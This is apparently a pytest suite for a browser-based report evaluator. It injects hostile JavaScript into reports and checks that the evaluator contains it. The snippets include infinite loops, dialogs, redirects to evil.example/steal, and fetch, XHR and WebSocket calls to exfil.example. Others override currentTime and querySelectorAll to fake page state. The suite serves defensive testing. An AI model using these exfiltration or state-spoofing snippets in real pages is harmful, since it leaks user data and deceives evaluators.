"""The report is hostile input: each misbehaviour finishes within bounds, is recorded with its
reason, fails the probes it breaks, and never hangs or crashes the evaluator."""

import time

import pytest
from eval_helpers import GOOD, copy_report, inject, m_calls

pytestmark = pytest.mark.browser

BOUND_S = 45  # wall-clock bound of one hostile report under the tight limits below


def _limits():
    from omnidr.evaluation import ProbeLimits

    return ProbeLimits(load_timeout_s=5, step_timeout_s=3, media_wait_s=2, seek_wait_s=2, play_wait_s=2,
                       report_timeout_s=30, max_dom_nodes=20_000)


def _probe(chromium, report):
    from omnidr.evaluation import Call, ProbeContext, probe_report

    calls = m_calls() + [Call("no_console_errors"), Call("citations_resolve")]
    started = time.monotonic()
    out = chromium.run(lambda b: probe_report(b, report, calls, ProbeContext(duration_s=36.0), _limits()))
    elapsed = time.monotonic() - started
    assert elapsed < BOUND_S, f"probing took {elapsed:.1f} s"
    return out, {r.name: r for r in out.results.values()}


def test_script_that_never_yields(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"), "while (true) {}")
    out, res = _probe(chromium, report)
    assert not out.session.responsive
    assert "unresponsive" in {f.kind for f in out.session.faults}
    assert all(r.status == "fail" for r in res.values())
    assert "stopped answering" in res["data_valid"].reason
    # the shared browser is unharmed: the next report is probed normally
    _, after = _probe(chromium, GOOD)
    assert all(r.status == "pass" for r in after.values())


def test_loop_started_by_a_click(chromium, tmp_path):
    # Everything read before the interaction passes; the click hangs the page, and the probes after it fail.
    report = inject(copy_report(tmp_path / "r"),
                    "document.addEventListener('click', (e) => { if (e.target.closest('.ts')) { while (true) {} } }, true);")
    out, res = _probe(chromium, report)
    assert res["data_valid"].status == "pass" and res["claim_cited"].status == "pass"
    assert res["timestamp_seeks"].status == "fail"
    assert res["video_plays"].status == "fail" and "stopped answering" in res["video_plays"].reason
    assert any(f.kind == "unresponsive" for f in out.session.faults)


def test_dialogs_are_dismissed_and_recorded(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"), "alert('hello'); confirm('sure?'); prompt('name?'); "
                    "setTimeout(() => alert('later'), 0);")
    out, res = _probe(chromium, report)
    dialogs = [f.detail for f in out.session.faults if f.kind == "dialog"]
    assert any("alert: hello" in d for d in dialogs) and any("confirm: sure?" in d for d in dialogs)
    assert res["no_console_errors"].status == "fail" and "dialog" in res["no_console_errors"].reason
    assert res["data_valid"].status == "pass"


def test_navigation_away_is_refused(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"), "setTimeout(() => { location.href = 'https://evil.example/steal?d=1'; }, 0);",
                    where="body")
    out, res = _probe(chromium, report)
    assert [f.detail for f in out.session.faults if f.kind == "navigation"] == [
        "the report tried to navigate to https://evil.example/steal?d=1"]
    assert any("evil.example" in b.url for b in out.session.blocked_requests)
    assert res["data_valid"].status == "pass" and res["citations_resolve"].status == "pass"
    assert res["no_console_errors"].status == "fail" and "navigation" in res["no_console_errors"].reason


def test_local_navigation_and_popups_are_refused(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"),
                    "document.addEventListener('click', () => { window.open('https://evil.example/popup'); "
                    "location.href = 'other.html'; }, true);", where="body")
    out, res = _probe(chromium, report)
    assert "navigation" in {f.kind for f in out.session.faults}
    assert res["data_valid"].status == "pass" and res["not_skeleton"].status == "pass"  # still the report
    assert res["no_console_errors"].status == "fail"


def test_huge_dom_is_bounded(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"),
                    "const f = document.createDocumentFragment(); for (let i = 0; i < 60000; i++) "
                    "{ const d = document.createElement('div'); d.textContent = 'x' + i; f.appendChild(d); } "
                    "document.body.appendChild(f);", where="body")
    out, res = _probe(chromium, report)
    # Either the DOM is measured and refused, or building it outlasts the step bound: both are recorded.
    assert {f.kind for f in out.session.faults} & {"dom_size", "unresponsive"}
    assert all(r.status == "fail" for r in res.values())
    assert "elements" in res["not_skeleton"].reason or "stopped answering" in res["not_skeleton"].reason


def test_network_requests_are_blocked_and_logged(chromium, tmp_path):
    report = inject(copy_report(tmp_path / "r"),
                    "fetch('https://exfil.example/collect?x=1').catch(() => {});"
                    "const x = new XMLHttpRequest(); x.open('GET', 'http://exfil.example/xhr'); x.onerror = () => {}; x.send();"
                    "try { new WebSocket('wss://exfil.example/ws'); } catch (e) {}"
                    "new Image().src = 'https://tracker.example/pixel.gif';")
    out, res = _probe(chromium, report)
    urls = " ".join(b.url for b in out.session.blocked_requests)
    assert "exfil.example/collect" in urls and "tracker.example/pixel.gif" in urls and "exfil.example/ws" in urls
    assert any(f.kind == "network" for f in out.session.faults)
    assert res["no_console_errors"].status == "fail" and "network" in res["no_console_errors"].reason
    assert res["data_valid"].status == "pass"


def test_faked_page_state_does_not_fool_the_probes(chromium, tmp_path):
    # The report lies through the page's own globals: every video claims to be at 24 s (so its
    # timestamp links never really seek) and querySelectorAll finds nothing. The probes read the
    # DOM and the media elements from an isolated world, so they see what really happens.
    report = inject(copy_report(tmp_path / "r"),
                    "Object.defineProperty(HTMLMediaElement.prototype, 'currentTime', {get() { return 24; }, set(v) {}});"
                    "Document.prototype.querySelectorAll = function () { return []; };", where="body")
    out, res = _probe(chromium, report)
    assert res["timestamp_seeks"].status == "fail" and "did not seek" in res["timestamp_seeks"].reason
    assert res["video_plays"].status == "pass"  # the native controls still play the video
    assert res["citations_resolve"].status == "pass" and res["claim_cited"].status == "pass"
